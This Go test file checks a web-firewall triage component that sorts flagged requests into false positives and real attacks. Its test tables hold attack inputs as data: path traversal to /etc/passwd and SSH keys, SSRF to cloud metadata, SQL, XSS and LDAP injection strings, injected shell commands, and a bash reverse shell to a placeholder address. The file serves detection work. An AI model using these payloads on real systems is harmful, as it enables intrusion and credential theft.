package triage

import (
	"strings"
	"testing"

	"github.com/modsecurity-for-anylog/msa/engine"
	"github.com/modsecurity-for-anylog/msa/mapping"
)

func TestOrdinary(t *testing.T) {
	for variable, values := range map[string]map[string]bool{
		"REQUEST_FILENAME": {
			"/shop/cart.git/info/refs?service=git-upload-pack":     true,
			"/shop/cart.git/git-receive-pack":                      true,
			"/shop/team-a/cart.git/info/lfs/objects/batch":         true,
			"/.git/info/refs":                                      false,
			"/app/.git/HEAD":                                       false,
			"/shop/cart.git/config":                                false,
			"/shop/cart.git/info/refs?service=git-upload-pack'or1": false,
			"/../x.git/info/refs":                                  false,
			"/shop/cart.git/info/lfs/../../etc/passwd":             false,
		},
		"ARGS:redirect_uri": {
			"http://127.0.0.1:49152/done":                true,
			"http://localhost:8400":                      true,
			"http://[::1]:5000/signin-oidc":              true,
			"https://localhost:8443/signin-oidc":         true,
			"http://127.0.0.1:6379/%0d%0aFLUSHALL":       false,
			"http://127.0.0.1:80@other.example/":         false,
			"http://169.254.169.254/latest/":             false,
			"http://localhost.other.example/signin-oidc": false,
		},
		"ARGS:file": {
			"data:text/plain;base64,SGVsbG8sIEFubg==":          true,
			"data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==":   true,
			"data:text/plain;charset=utf-8;base64,SGVsbG8":     true,
			"data:text/html;base64,SGVsbG8=":                   false, // a page, whatever is in it
			"data:image/svg+xml;base64,SGVsbG8=":               false,
			"data:text/plain;base64,PD9waHAgZWNobyAxOw==":      false, // begins with a tag
			"data:text/plain,<script>":                         false,
			"data:text/plain;base64,SGVsbG8= onerror=alert(1)": false,
			"data:,x":                      false,
			"String.fromCharCode(72, 105)": true,
			"fromcharcode(72,105);":        true,
			`{"id": 7, "file": "data:text/plain;base64,SGVsbG8=", "name": "Ann Lee"}`:  true,
			`{"id":"' or 1=1-- ","file":"data:text/plain;base64,SGVsbG8="}`:            false,
			`{"file":"data:text/plain;base64,SGVsbG8=","to":"<b>"}`:                    false,
			"alert(String.fromCharCode(72,105))":                                       false,
			"String.fromCharCode(72,105)(1)":                                           false,
			"eval(String.fromCharCode(97,108,101,114,116,40,49,41))//data:image/png,x": false,
		},
		"ARGS:json.redirect_uris.0":       {"http://localhost:3000/done": true, "http://169.254.169.254/latest/": false},
		"ARGS:json.allowed_logout_urls.1": {"https://localhost:3000": true},
		"ARGS:json.note_url":              {"https://localhost/this": true, "https://localhost/this?cmd=id": false},
		"ARGS:json.webhook.callback_url":  {"http://localhost:3000/done": false},  // which the server asks
		"ARGS:url":                        {"http://127.0.0.1:49152/done": false}, // where the server goes to, and no browser waits
		"ARGS:path":                       {"/shop/cart.git/info/refs": false},    // no request of git
	} {
		for value, want := range values {
			if got := isOrdinary(&mapping.Transaction{}, &engine.Match{}, variable, value); got != want {
				t.Errorf("%s: %s: %v", variable, value, got)
			}
		}
	}
}

// What is ordinary to rules of one kind is not to others.
func TestOrdinaryByKind(t *testing.T) {
	for kind, variables := range map[string]map[string]map[string]bool{
		"lfi": {
			"REQUEST_FILENAME": {
				"/assets/config.json":           true,
				"/job/shop/config.xml":          true,
				"/npm/lamps@2.1.0/package.json": true,
				"/.docker/config.json":          false,
				"/app/../config.json":           false,
				"/config.json.bak":              false,
				"/web.config":                   false,
				"/@fs/home/ann/shop/node_modules/vite/dist/client/env.mjs":          true,
				"/@fs/home/ann/shop/.angular/cache/21.2/shop/vite/deps/es-shims.js": true,
				"/@id/__x00__plugin-vue:export-helper":                              true,
				"/@fs/etc/passwd":                                                   false,
				"/@fs/home/ann/.ssh/id_rsa":                                         false,
				"/@fs/x/node_modules/../../etc/passwd.js":                           false,
				"/@fs/home/ann/.env":                                                false,
				"/wp-config.php":                                                    false,
			},
			"ARGS:file": {
				"models/lamp-7/adapter_config.json": true,
				"/srv/app/config.json":              false,
				"../config.json":                    false,
			},
			"REQUEST_URI_RAW": {
				"/_static/??/wp-includes/css/a.css,/wp-content/b.css?m=17": true,
				"/js/??lamp.js,shop/cart.js":                               true,
				"/static/??/??/etc/passwd":                                 false,
				"/static/??/etc/passwd":                                    false,
				"/_static/??/a/../../b.css":                                false,
				"/../a??/b.css":                                            false,
			},
			"REQUEST_HEADERS:referer": {"https://shop.example/_static/??/a.css": true},
			"ARGS:u":                  {"/_static/??/a.css": false},
		},
		"protocol": {
			"ARGS_NAMES:a":     {"c2hvcCBsYW1wcyBh\nbmQg\n": true, "c2hvcCBsYW1wcyBh\nhost:a": false, "a\r\nb c": false},
			"REQUEST_FILENAME": {"/c2hvcCBsYW1wcyBh\n": false},
		},
		"multipart-header": {
			"MULTIPART_PART_HEADERS:file": {
				"content-transfer-encoding: binary":           true,
				"Content-Transfer-Encoding: 8bit":             true,
				"content-transfer-encoding: base64":           false,
				"content-transfer-encoding: quoted-printable": false,
				"content-type: text/plain; charset=utf-7":     false,
			},
		},
		"rce": {
			"REQUEST_FILENAME": {"/assets/config.json": false, "/maps/api-3/{common,map}.js": true, "{common,map}.js": true, "/{cat,/etc/passwd}.js": false, "/{common,map}.sh": false},
			"ARGS:a":           {"{common,map}.js": false},
		},
		"ssrf": {
			"REQUEST_HEADERS:referer": {
				"http://localhost:3090/rp/login?redirectUrl=%2Frp":  true,
				"http://127.0.0.1:3000/a?next=https://shop.example": true,
				"http://localhost/?u=http://127.0.0.1:8080/":        false,
				"http://localhost/?u=http://169.254.169.254/latest": false,
				"http://localhost.other.example/?a=b":               false,
				"http://169.254.169.254/latest/":                    false,
			},
			"REQUEST_HEADERS:origin":          {"http://localhost:3000": true},
			"REQUEST_HEADERS:x-forwarded-for": {"http://localhost:3000": false},
		},
		"xss": {
			"REQUEST_HEADERS:referer": {"http://localhost:3090/?q=<script>": false},
		},
	} {
		m := &engine.Match{Tags: []string{"attack-" + kind}}
		for variable, values := range variables {
			for value, want := range values {
				if got := isOrdinary(&mapping.Transaction{}, m, variable, value); got != want {
					t.Errorf("%s: %s: %s: %v", kind, variable, value, got)
				}
			}
		}
	}
}

// Paths that stay where they are, programs of Windows, interfaces called /sys, and filters of directories.
func TestOrdinaryPlaces(t *testing.T) {
	for _, c := range []struct {
		kind, found, variable, value string
		want                         bool
	}{
		{"lfi", "/../", "ARGS:u", "https://shop.example/lamps/../beds", true},
		{"lfi", ".profile", "REQUEST_HEADERS:Referer", "https://id.example/?scope=openid https://id.example/userinfo.profile&state=a", true},
		{"lfi", ".profile", "ARGS:file", "/home/ann/.profile", false},
		{"lfi", ".profile", "ARGS:file", "a.profile,/root/.profile", false},
		{"lfi", ".profile", "ARGS:file", "a.profile/../../etc/passwd", false},
		{"lfi", "/../", "ARGS:u", `C:\Users\Ann\..\Shared`, true},
		{"lfi", "/../", "ARGS:u", "/lamps/new/../old/./a", true},
		{"lfi", "/../", "ARGS:u", "/lamps/../old", false},
		{"lfi", "/../", "ARGS:u", "https://shop.example/../beds", false},
		{"lfi", "/../", "ARGS:u", "../lamps", false},
		{"lfi", "/../", "ARGS:u", "lamps/new/../../../old", false},
		{"lfi", "/../", "ARGS:u", "/var/www/lamps/../../../etc/passwd", false},
		{"lfi", "/../", "ARGS:u", "/lamps/new/../etc/passwd", false},
		{"lfi", "/../", "ARGS:u", "/var/www/../log", false},
		{"lfi", "/../", "ARGS:u", "/home/ann/lamps/../beds", true},
		{"lfi", "/../", "ARGS:u", "/home/ann/../bob/a", false},
		{"lfi", "/../", "ARGS:u", "/home/ann/lamps/../.ssh/id_rsa", false},
		{"lfi", "/../", "ARGS:u", "/home/ann/lamps/../../../etc/passwd", false},
		{"lfi", "/../", "ARGS:u", `C:\Windows\..\Windows\win.ini`, false},
		{"lfi", "/../", "ARGS:u", "/lamps/new/.../../old", false},
		{"lfi", "/../", "ARGS:u", "/lamps/new/%2e%2e/../old", false},
		{"lfi", "etc/passwd", "ARGS:u", "/lamps/new/../old", false},
		{"lfi", "/../", "REQUEST_URI_RAW", "/t?u=https%3A%2F%2Fshop.example%2Flamps%2F..%2Fbeds&n=1", true},
		{"lfi", "/../", "REQUEST_URI_RAW", "/t?u=https%3A%2F%2Fshop.example%2Flamps%2F..%2Fbeds&f=..%2Fa", false},
		{"lfi", "/../", "REQUEST_URI_RAW", "/t?u=a%2Fb%2F%252e%252e%2F..%2Fbeds", false},
		{"lfi", "/../", "REQUEST_URI_RAW", "/lamps/new/../old", false}, // clients take these out
		{"rce", "/../", "ARGS:u", "/lamps/new/../old", false},
		{"lfi", "windows/system32", "ARGS:json.driver", "C:/Windows/System32/spool/drivers/x64/3/lamp (2).dll", true},
		{"lfi", "windows/system32", "ARGS:json.driver", "C:/Windows/System32/config/SAM", false},
		{"lfi", "windows/system32", "ARGS:json.driver", "C:/Windows/System32/cmd.exe /c dir", false},
		{"lfi", "windows/system32", "REQUEST_FILENAME", "C:/Windows/System32/lamp.dll", false},
		{"lfi", `\??\`, "ARGS:Dimensions.member.1.Value", `\??\C:\pagefile.sys`, true},
		{"lfi", `\..\`, "ARGS:Dimensions.member.1.Value", `\..\C:\pagefile.sys`, true},
		{"lfi", `\..\`, "ARGS:f", `\..\C:\Windows\win.ini`, false},
		{"lfi", `\..\`, "ARGS:f", `\..\..\C:\pagefile.sys`, false},
		{"lfi", `\??\`, "ARGS:f", `\??\C:\Windows\win.ini`, false},
		{"lfi", `\??\`, "ARGS:f", `\??\C:\a\..\b.sys`, false},
		{"lfi", ".git/", "REQUEST_FILENAME", "/cgit/lamps.git/refs/tags", true},
		{"lfi", ".git/", "REQUEST_FILENAME", "/lamps.git/plain/src/a.c", true},
		{"lfi", ".git/", "REQUEST_FILENAME", "/shop/.git/refs/heads/main", false},
		{"lfi", ".git/", "REQUEST_FILENAME", "/lamps.git/config", false},
		{"lfi", ".git/", "REQUEST_FILENAME", "/lamps.git/plain/../config", false},
		{"lfi", "/sys/", "REQUEST_FILENAME", "/v1/sys/policies/acl/app", true},
		{"lfi", "/sys/", "REQUEST_FILENAME", "/files/sys/class/dmi/id", false},
		{"lfi", "/sys/", "REQUEST_FILENAME", "/files/../../sys/power", false},
		{"lfi", "/sys/", "ARGS:f", "/sys/policies", false},
		{"ldap", "(|(", "ARGS:json.ldap.user_filter", "(&(objectClass=person)(|(uid=%s)(mail=%s)))", true},
		{"ldap", "(|(", "ARGS:json.filters.userFilter.0", "(memberOf=CN=lamps,DC=shop)", true},
		{"ldap", "(|(", "ARGS:filter", "(uid=a)(|(uid=*))", false},
		{"ldap", "(|(", "ARGS:filter", "*)(uid=*))(|(uid=*", false},
		{"ldap", "(|(", "ARGS:filter", "(uid=';x)", false},
		{"ldap", "(|(", "ARGS:user", "(&(uid=a)(|(uid=*)))", false},
		{"rce", "(|(", "ARGS:filter", "(&(uid=a)(|(uid=*)))", false},
	} {
		m := &engine.Match{Tags: []string{"attack-" + c.kind}, Data: "Matched Data: " + c.found + " found within " + c.variable + ": " + c.value}
		if got := isOrdinary(&mapping.Transaction{}, m, c.variable, c.value); got != c.want {
			t.Errorf("%s in %s %s: %v", c.found, c.variable, c.value, got)
		}
	}
}

// What objects of Kubernetes have for commands, settings and files is no injected command.
func TestOrdinaryManifests(t *testing.T) {
	const workloads = "/apis/apps/v1/namespaces/shop/deployments?fieldManager=a"
	for _, c := range []struct {
		uri, variable string
		want          bool
	}{
		{workloads, "ARGS:json.spec.template.spec.containers.0.command.2", true},
		{workloads, "ARGS:json.spec.template.spec.initContainers.1.args.0", true},
		{workloads, "ARGS:json.spec.template.spec.containers.0.livenessProbe.exec.command.2", true},
		{workloads, "ARGS:json.spec.template.spec.containers.0.lifecycle.preStop.exec.command.2", true},
		{workloads, "ARGS:json.spec.template.spec.containers.0.env.3.value", true},
		{workloads, "ARGS:json.metadata.annotations.kubectl.kubernetes.io/last-applied-configuration", true},
		{workloads, "ARGS:json.metadata.name", false},
		{workloads, "ARGS:json.spec.template.spec.containers.0.image", false},
		{workloads, "ARGS:fieldManager", false},
		{"/api/v1/namespaces/shop/configmaps/a", "ARGS:json.data.entry.sh", true},
		{"/apis/tekton.dev/v1/namespaces/shop/tasks", "ARGS:json.spec.steps.0.script", true},
		{"/api/v1/namespaces/shop/pods/..%2f..%2fetc/passwd", "ARGS:json.spec.containers.0.command.2", false},
		{"/api/diagnostics", "ARGS:json.containers.0.command.2", false},
		{"/tools/apis/apps/v1/namespaces/shop/deployments", "ARGS:json.spec.containers.0.command.2", false},
		{"/api/v1/namespaces/shop/secrets", "ARGS:json.data.key", true},
		{"/api/v1/namespaces/shop/pods", "ARGS:json.data.key", false},
		{"/api/v1/namespaces/shop/pods/a/ephemeralcontainers", "ARGS:json.spec.ephemeralContainers.0.command.2", true},
		{"/api/v1/runs", "ARGS:json.data.attributes.message", false}, // of an interface that is none of Kubernetes
		{"/api/v2/users/7", "ARGS:json.data.attributes.name", false},
		{"/api/v1/workflows", "ARGS:json.template.script", false},
		{"/api/v1/jobs/7", "ARGS:json.steps.0.script", false},
		{"/apis/shop/v1/orders", "ARGS:json.containers.0.args.0", false},
	} {
		if got := isManifest(&mapping.Transaction{URI: c.uri}, c.variable); got != c.want {
			t.Errorf("%s %s: %v", c.uri, c.variable, got)
		}
	}
}

// The name of a scanner in a longer one is none.
func TestNamesOfScanners(t *testing.T) {
	for value, want := range map[string]bool{
		"Mozilla/5.0 (Linux; Android 4.1; VegaMax 2 Build/A1)": true,
		"Mozilla/5.0 (Linux; Android 4.1; Vega Build/A1)":      true,
		"Mozilla/5.0 (compatible; {32097A18-A7VegaE9})":        true,
		"Vega/1.0":                       false,
		"Mozilla/5.0 (compatible; Vega)": false,
		"Mozilla/5.0 (Linux; Android 4.1; VegaMax Build/A1) Vega/1": false,
	} {
		m := &engine.Match{
			Tags: []string{"attack-reputation-scanner"}, Data: "Matched Data: Vega found within REQUEST_HEADERS:User-Agent: " + value,
		}
		if got := isOrdinary(&mapping.Transaction{}, m, "REQUEST_HEADERS:User-Agent", value); got != want {
			t.Errorf("%s: %v", value, got)
		}
	}
}

// Programs for authors send pages, and clients of a cloud send scripts; what else has such names is no such call.
func TestWrittenByCalls(t *testing.T) {
	signed := []mapping.Header{{Name: "Authorization", Value: "AWS4-HMAC-SHA256 Credential=A/20261120/eu-west-1/ec2/aws4_request"}}
	call := func(method string) string {
		return "<?xml version=\"1.0\"?><methodCall><methodName>" + method + "</methodName>"
	}
	for _, c := range []struct {
		kind, variable, body string
		headers              []mapping.Header
		want                 bool
	}{
		{"xss", "REQUEST_XML:/*", call("metaWeblog.newPost"), nil, true},
		{"xss", "REQUEST_XML:/*", call("wp.editPost"), nil, true},
		{"xss", "REQUEST_XML:/*", call("wp.newComment"), nil, false},
		{"sqli", "REQUEST_XML:/*", call("wp.editPost"), nil, false},
		{"xss", "REQUEST_XML:/*", "<a>" + call("wp.editPost"), nil, false},
		{"rce", "ARGS_POST:TemplateBody", "", signed, true},
		{"rce", "ARGS:UserData", "", signed, true},
		{"rce", "ARGS:json.Parameters.commands.0", "", signed, true},
		{"rce", "ARGS:UserData", "", nil, false},
		{"rce", "ARGS:Name", "", signed, false},
		{"lfi", "ARGS:UserData", "", signed, false},
	} {
		tx := &mapping.Transaction{Method: "POST", URI: "/", RequestHeaders: c.headers}
		tx.RequestBody.Text = c.body
		if got := isOrdinary(tx, &engine.Match{Tags: []string{"attack-" + c.kind}}, c.variable, "x"); got != c.want {
			t.Errorf("%s of %s, %s: %v", c.kind, c.variable, c.body, got)
		}
	}
}

// Bodies of random bytes are no forms, whatever their first sign, and the heads of their parts are no lines that somebody has put in.
func TestOrdinaryBodies(t *testing.T) {
	noise := strings.Repeat("\x01\ufffd\x7f'\x05--\ufffd;\u0101\x02$(\ufffd&", 20)
	const form, tail = "multipart/form-data; boundary=lamps-17", "\x01\r\n--lamps-17\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--lamps-17--\r\n"
	for name, c := range map[string]struct {
		family, found, uri, kind, body, variable, value string
		want                                            bool
	}{
		"noise as JSON":           {"sqli", "", "/a", "", "[" + noise, "ARGS:json.0", noise, true},
		"noise as XML":            {"rce", "", "/a", "", "<" + noise, "REQUEST_XML:/*", noise, true},
		"noise as a name":         {"protocol", "", "/a", "", noise, "ARGS_NAMES:" + noise[:40], noise[:40], true},
		"noise and a query":       {"rce", "", "/a?c=;id", "", noise, "ARGS:c", ";id", false},
		"noise and a text":        {"rce", "", "/a", "", noise + "&c=;cat /etc/passwd; uname -a; id", "ARGS:c", ";cat /etc/passwd; uname -a; id", false},
		"a value between noise":   {"sqli", "", "/a", "", noise + "&a=1'or'1'='1&" + noise, "ARGS:a", "1'or'1'='1", false},
		"text":                    {"sqli", "", "/a", "", "a=1' or '1'='1", "ARGS:a", "1' or '1'='1", false},
		"few bytes":               {"rce", "", "/a", "", "\x01=;id\x02", "ARGS:\x01", ";id\x02", false},
		"part of a form":          {"protocol", "\r\nContent-Disposition:", "/a", form, tail, "REQUEST_BODY", tail, true},
		"line that is of no part": {"protocol", "\r\nSet-Cookie:", "/a", form, tail, "REQUEST_BODY", tail, false},
		"part of another form":    {"protocol", "\r\nContent-Disposition:", "/a", "multipart/form-data; boundary=beds", tail, "REQUEST_BODY", tail, false},
		"part in what is no form": {"protocol", "\r\nContent-Disposition:", "/a", "text/plain; boundary=lamps-17", tail, "REQUEST_BODY", tail, false},
		"part in an argument":     {"protocol", "\r\nContent-Disposition:", "/a", form, tail, "ARGS:a", tail, false},
	} {
		t.Run(name, func(t *testing.T) {
			tx := &mapping.Transaction{Method: "POST", URI: c.uri, RequestHeaders: []mapping.Header{{Name: "Content-Type", Value: c.kind}}}
			tx.RequestBody.Text = c.body
			m := &engine.Match{Tags: []string{"attack-" + c.family}, Data: "Matched Data: " + c.found + " found within x: y"}
			if got := isOrdinary(tx, m, c.variable, c.value) || isNoise(tx, c.variable, c.value); got != c.want {
				t.Errorf("%v", got)
			}
		})
	}
}

// Scripts that a machine runs when it starts, given by somebody whom the interface has believed.
func TestStartScripts(t *testing.T) {
	const script = "#!/bin/bash\necho lamps\n"
	for name, c := range map[string]struct {
		method, header  string
		status          int
		variable, value string
		want            bool
	}{
		"start":                  {"POST", "Authorization", 200, "ARGS:json.nodes.0.startupScript", script, true},
		"user data":              {"PUT", "X-Auth-Token", 201, "ARGS:json.user_data", "#cloud-config\nruncmd: [id]\n", true},
		"nobody":                 {"POST", "Accept", 200, "ARGS:json.nodes.0.startupScript", script, false},
		"nobody who is believed": {"POST", "Authorization", 401, "ARGS:json.nodes.0.startupScript", script, false},
		"another field":          {"POST", "Authorization", 200, "ARGS:json.name", script, false},
		"command":                {"POST", "Authorization", 200, "ARGS:json.script", "a;id", false},
		"shell to somebody":      {"POST", "Authorization", 200, "ARGS:json.script", script + "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", false},
		"asked for":              {"GET", "Authorization", 200, "ARGS:json.script", script, false},
	} {
		t.Run(name, func(t *testing.T) {
			tx := &mapping.Transaction{Method: c.method, URI: "/v1/machines", Status: c.status, RequestHeaders: []mapping.Header{{Name: c.header, Value: "x"}}}
			if got := isStartScript(tx, c.variable, c.value); got != c.want {
				t.Errorf("%v", got)
			}
		})
	}
}

// The end of a file that is no text, in a form too long to be read as one.
func TestEndOfFile(t *testing.T) {
	end := strings.Repeat("\x00)\x00-\x01/../\x00'", 600)
	for name, c := range map[string]struct {
		family, found, kind, body, variable string
		want                                bool
	}{
		"sound":           {"lfi", "/../", "multipart/form-data; boundary=a", end, "REQUEST_BODY", true},
		"a long find":     {"sqli", "' union select a from b where c", "multipart/form-data; boundary=a", end, "REQUEST_BODY", false},
		"a text":          {"lfi", "/../", "multipart/form-data; boundary=a", strings.Repeat("lamps /../ ", 600), "REQUEST_BODY", false},
		"a program":       {"injection-php", "<?php", "multipart/form-data; boundary=a", end, "REQUEST_BODY", false},
		"no form":         {"lfi", "/../", "text/plain", end, "REQUEST_BODY", false},
		"an argument":     {"lfi", "/../", "multipart/form-data; boundary=a", end, "ARGS:file", false},
		"a short request": {"lfi", "/../", "multipart/form-data; boundary=a", end[:100], "REQUEST_BODY", false},
	} {
		t.Run(name, func(t *testing.T) {
			tx := &mapping.Transaction{Method: "POST", URI: "/a", RequestHeaders: []mapping.Header{{Name: "Content-Type", Value: c.kind}}}
			tx.RequestBody.Text = c.body
			m := &engine.Match{Tags: []string{"attack-" + c.family}, Data: "Matched Data: " + c.found + " found within x: y"}
			if got := isEndOfFile(tx, m, c.variable); got != c.want {
				t.Errorf("%v", got)
			}
		})
	}
}
